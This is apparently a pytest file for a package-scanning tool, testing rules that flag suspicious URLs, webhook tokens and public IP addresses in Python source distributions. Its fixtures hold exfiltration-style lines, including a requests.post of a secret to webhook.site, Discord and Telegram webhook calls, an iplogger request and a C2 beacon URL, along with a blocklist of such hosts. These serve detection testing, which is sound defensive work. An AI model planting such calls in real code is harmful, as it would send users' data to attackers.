from __future__ import annotations

from tests.analysis.builders import run_rule, sdist
from threatfeed.analysis import Engine
from threatfeed.analysis.rules.network import ip_identification_rule, suspicious_url_references_rule


def test_exfiltration_and_oast_urls_are_reported_whole(engine: Engine) -> None:
    code = (
        "HOOK = 'https://discord.com/api/webhooks/123/abc-DEF'\n"
        "PROBE = 'abc123.oast.fun'\n"
        "DOCS = 'https://docs.python.org/3/'\n"
    )
    evidence = run_rule(engine, suspicious_url_references_rule, sdist({"t/m.py": code}))
    assert evidence == [
        {
            "file": "tidy-strings-0.4.0/t/m.py",
            "urls": ["https://discord.com/api/webhooks/123/abc-DEF", "abc123.oast.fun"],
        }
    ]


def test_loopback_and_private_ip_urls_are_not_suspicious(engine: Engine) -> None:
    code = "A = 'http://127.0.0.1:8080/x'\nB = 'http://10.0.0.2/'\nC = 'http://0.0.0.0:5000'\n"
    assert run_rule(engine, suspicious_url_references_rule, sdist({"t/m.py": code})) is None


def test_public_ip_url_is_suspicious(engine: Engine) -> None:
    code = "C2 = 'http://198.51.100.20:8443/beacon'\n"
    # 198.51.100.0/24 is documentation space, hence not "global": use a routable look-alike.
    code = code.replace("198.51.100.20", "45.12.77.3")
    evidence = run_rule(engine, suspicious_url_references_rule, sdist({"t/m.py": code}))
    assert evidence[0]["urls"] == ["http://45.12.77.3:8443/beacon"]


def test_ip_identification_reports_public_addresses_only(engine: Engine) -> None:
    code = (
        "SERVER = '45.12.77.3'\nLOCAL = '192.168.1.10'\nDNS = '8.8.8.8'\nVERSION = 'v1.2.3.4'\n"
        "ASSEMBLY = '1.0.0.0'\nAGENT = 'Mozilla/5.0 Chrome/131.0.0.0 Safari/537.36'\n"
        "setup(version='1.26.25.14')\nMETA = {'version': '2.31.0.3'}\n"
        "REQUIRES = ['tidy-httpd==2.4.69.1', 'other>=20.0.0.9']\n__version__ = '1.5.6.1'\n"
    )
    evidence = run_rule(engine, ip_identification_rule, sdist({"t/m.py": code}))
    assert evidence == [{"file": "tidy-strings-0.4.0/t/m.py", "ip": "45.12.77.3"}]
    assert run_rule(engine, ip_identification_rule, sdist({"t/m.py": "X = '10.1.2.3'\n"})) is None


def test_ip_logger_links_are_reported(engine: Engine) -> None:
    code = "import urllib.request\nurllib.request.urlopen('https://iplogger.com/abc')\n"
    evidence = run_rule(engine, suspicious_url_references_rule, sdist({"t/m.py": code}))
    assert evidence[0]["urls"] == ["https://iplogger.com/abc"]


def test_webhook_with_its_token_weighs_more_than_a_bare_prefix(engine: Engine) -> None:
    from tests.analysis.builders import package
    from threatfeed.analysis.scoring import rule_points

    token = "https://discord.com/api/webhooks/123456789012345678/" + "a1B2-c3_D4" * 7
    bare = "https://discord.com/api/webhooks/"
    found = [
        suspicious_url_references_rule(package(engine, sdist({"t/m.py": f"U = '{u}'\n"})))
        for u in (token, bare)
    ]
    points = [rule_points(indicator) for indicator in found if indicator is not None]
    assert len(points) == 2
    assert points[0] > points[1]


def test_bot_token_written_into_the_code_is_reported(engine: Engine) -> None:
    """A Telegram bot token held in its own string (the URL built from it later): the
    author's private channel. Bot libraries take the token as a parameter."""
    token = "1234567890:AA" + "x7Y_z9-Q" * 4 + "k"
    code = (
        f"TOKEN = '{token}'\nimport requests\n"
        "requests.post(f'https://api.telegram.org/bot{TOKEN}/sendMessage', data={})\n"
    )
    evidence = run_rule(engine, suspicious_url_references_rule, sdist({"t/m.py": code}))
    assert any(token in url for url in evidence[0]["urls"])
    library = (
        "class Bot:\n    def __init__(self, token):\n"
        "        self.base = f'https://api.telegram.org/bot{token}/'\n"
    )
    found = run_rule(engine, suspicious_url_references_rule, sdist({"t/bot.py": library}))
    assert found == [
        {"file": "tidy-strings-0.4.0/t/bot.py", "urls": ["https://api.telegram.org/bot"]}
    ]


def test_bare_host_names_in_a_file_that_sends_nothing_weigh_little(engine: Engine) -> None:
    """A blocklist naming ``webhook.site`` is a list of names; a module posting to it is not."""
    from tests.analysis.builders import package
    from threatfeed.analysis.scoring import rule_points

    listing = "BLOCKED = {'mailinator.com', 'webhook.site', 'x.duckdns.org'}\n"
    posting = "import requests\nrequests.post('https://webhook.site/abc', data=secret)\n"
    found = [
        suspicious_url_references_rule(package(engine, sdist({"t/m.py": code})))
        for code in (listing, posting)
    ]
    points = [rule_points(indicator) for indicator in found if indicator is not None]
    assert len(points) == 2
    assert points[0] < points[1] / 2


def test_slack_webhooks_with_a_team_id_are_reported_placeholders_are_not(engine: Engine) -> None:
    real = "import requests\nrequests.post('https://hooks.slack.com/services/T0AB12CDE/B0XY/zz')\n"
    evidence = run_rule(engine, suspicious_url_references_rule, sdist({"t/m.py": real}))
    assert evidence[0]["urls"] == ["https://hooks.slack.com/services/T0AB12CDE/B0XY/zz"]
    placeholder = real.replace("T0AB12CDE/B0XY/zz", "YOUR/WEBHOOK/URL")
    assert run_rule(engine, suspicious_url_references_rule, sdist({"t/m.py": placeholder})) is None
